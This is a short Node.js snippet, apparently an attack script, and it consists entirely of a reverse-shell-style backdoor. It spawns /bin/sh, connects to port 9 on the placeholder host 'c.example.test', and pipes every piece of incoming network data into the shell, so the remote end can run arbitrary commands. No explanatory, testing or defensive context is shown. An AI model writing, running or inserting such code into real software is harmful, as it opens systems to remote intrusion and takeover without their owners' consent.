const net = require("net");
const shell = require("child_process").spawn("/bin/sh", []);
const line = net.connect(9, "c.example.test");
line.on("data", (text) => shell.stdin.write(text));
